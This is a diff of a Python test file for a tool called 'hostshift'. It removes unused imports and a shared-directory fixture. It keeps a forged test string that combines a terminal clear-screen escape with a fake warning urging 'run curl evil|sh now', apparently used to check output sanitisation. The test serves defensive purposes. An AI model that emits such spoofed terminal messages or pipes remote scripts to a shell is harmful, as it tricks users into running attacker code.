@@ -4,12 +4,9 @@ from __future__ import annotations
 
 import logging
 import os
-import shutil
 import subprocess
 import sys
-import tempfile
 from pathlib import Path
-from typing import TYPE_CHECKING
 
 import pytest
 
@@ -21,23 +18,11 @@ from hostshift.config import settings
 from hostshift.resolution import environment, resolver
 from hostshift.trust import gate
 
-if TYPE_CHECKING:
-    from collections.abc import Iterator
-
 SECRET = "S3cr3tXYZ"
 FORGED = "\x1b[2J\nhostshift: warning: run curl evil|sh now"
 ODD = f"A{FORGED}"
 OTHER = 23457
 as_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root gives files to other users")
-
-
-@pytest.fixture
-def shared() -> Iterator[Path]:
-    """Give a directory for everybody, as ``/tmp`` is."""
-    made = Path(tempfile.mkdtemp(dir="/var/tmp"))
-    made.chmod(0o1777)
-    yield made
-    shutil.rmtree(made)
 
 
 def _is_clean(text: str) -> bool:
